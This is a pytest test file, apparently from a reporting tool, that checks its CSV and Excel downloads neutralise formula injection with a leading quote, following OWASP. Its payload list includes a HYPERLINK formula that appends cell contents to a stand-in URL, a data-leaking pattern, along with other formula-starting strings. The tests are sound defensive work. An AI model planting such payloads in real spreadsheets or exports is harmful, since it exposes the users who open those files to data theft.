"""Downloads hold data, never formulas (issue 17).

A site named ``=HYPERLINK("http://x"&A1,"klik")`` must reach a reviewer's
spreadsheet as the text it is: every Excel cell the writers make is a string
or a number (openpyxl would otherwise store a text starting with ``=`` as a
live formula), and a CSV field that a spreadsheet would read as a formula
(starting with ``=``, ``+``, ``-`` followed by text, ``@``, a tab or a
carriage return) is neutralised with a leading single quote, as OWASP
recommends for CSV injection. Real numbers, negative ones included, stay
numbers.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from ipsreport.render.downloads import FORMULA_STARTS, safe_text, write_csv, write_xlsx
from ipsreport.outputs.tables.fidelity import tab_fidelity_reviews

from test_fidelity_reviews import review, with_reviews

PAYLOADS = ['=HYPERLINK("http://x"&A1,"klik")', "+1", "-x", "@SUM(A1)", "\tfoo", "\rfoo", "=1+1", "-2+3"]


def resource_with(texts: list[str], numbers: list[float]) -> dict:
    return {
        "name": "=demo",
        "schema": {"fields": [
            {"name": "t", "title": "=Titel", "type": "string"},
            {"name": "n", "title": "Antal", "type": "number"},
        ]},
        "data": [{"t": t, "n": n} for t, n in zip(texts, numbers)],
    }


def csv_rows(path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""), delimiter=";"))


def xlsx_cells(path) -> list[openpyxl.cell.cell.Cell]:
    wb = openpyxl.load_workbook(path)  # not read-only: the cells' data types are kept
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


# --- the rule --------------------------------------------------------------------------


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_text_a_spreadsheet_would_run_is_quoted(text):
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Jobcenter", "-5", "-2,5", "-0.25", "", "a=b", " =x", "'=x", "–x"])
def test_plain_text_and_negative_numbers_written_as_text_are_left_alone(text):
    # A negative number is data, not a formula; an en dash is not a minus; a
    # leading space or quote already keeps a spreadsheet from reading a formula.
    assert safe_text(text) == text


@given(st.text())
def test_no_safe_text_starts_a_formula(text):
    out = safe_text(text)
    assert out == text or out == "'" + text
    if out[:1] == "-":
        float(out.replace(",", "."))  # only a real number may keep a leading minus
    else:
        assert out[:1] not in FORMULA_STARTS


# --- the writers ----------------------------------------------------------------------


def test_csv_fields_are_neutralised_and_numbers_stay_numbers(tmp_path):
    numbers = [-3.0, -2.5, 0.0, 1.0, 2.0, 3.0, 4.0, 5.0]
    rows = csv_rows(write_csv(tmp_path / "t.csv", resource_with(PAYLOADS, numbers)))
    assert rows[0] == ["'=Titel", "Antal"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert [r[1] for r in rows[1:]] == ["-3", "-2,5", "0", "1", "2", "3", "4", "5"]


def test_xlsx_has_no_formula_and_keeps_the_text_exactly(tmp_path):
    numbers = [-3.0, -2.5, 0.0, 1.0, 2.0, 3.0, 4.0, 5.0]
    path = write_xlsx(tmp_path / "t.xlsx", resource_with(PAYLOADS, numbers), "Tabel 1")
    cells = xlsx_cells(path)
    assert cells and all(c.data_type != "f" for c in cells)
    texts = [c.value for c in cells if c.column == 1 and c.row > 1]
    # The cell holds the data as it is, typed as text (XML reads a lone CR back as LF).
    assert texts == [p.replace("\r", "\n") for p in PAYLOADS]
    nums = [c.value for c in cells if c.column == 2 and c.row > 1]
    assert nums == numbers and all(c.data_type == "n" for c in cells if c.column == 2 and c.row > 1)


def test_a_formula_named_site_in_the_fidelity_download(make_edition, tmp_path):
    sites = ['=HYPERLINK("http://x"&A1,"klik")', "+1", "-x", "@SUM(A1)", "\tfoo", "\rfoo"]
    ed = with_reviews(make_edition, [review(site=s, date=f"2024-06-0{i + 1}") for i, s in enumerate(sites)])
    resource = tab_fidelity_reviews(ed).resource()
    cells = xlsx_cells(write_xlsx(tmp_path / "f.xlsx", resource, "Tabel"))
    assert all(c.data_type != "f" for c in cells)
    assert sorted(c.value for c in cells if c.column == 1 and c.row > 1) == sorted(s.replace("\r", "\n") for s in sites)
    totals = [c for c in cells if c.column == 4 and c.row > 1]
    assert totals and all(c.data_type == "n" and c.value == 100 for c in totals)
    rows = csv_rows(write_csv(tmp_path / "f.csv", resource))
    assert sorted(r[0] for r in rows[1:]) == sorted("'" + s for s in sites)
    assert all(not r[0].startswith(tuple(FORMULA_STARTS)) for r in rows[1:])


def test_beside_a_formula_named_site_dates_stay_dates(make_edition, tmp_path):
    ed = with_reviews(make_edition, [review(site="=1+1")])
    cells = xlsx_cells(write_xlsx(tmp_path / "g.xlsx", tab_fidelity_reviews(ed).resource()))
    assert [c.data_type for c in cells if c.row == 2][:2] == ["s", "d"]
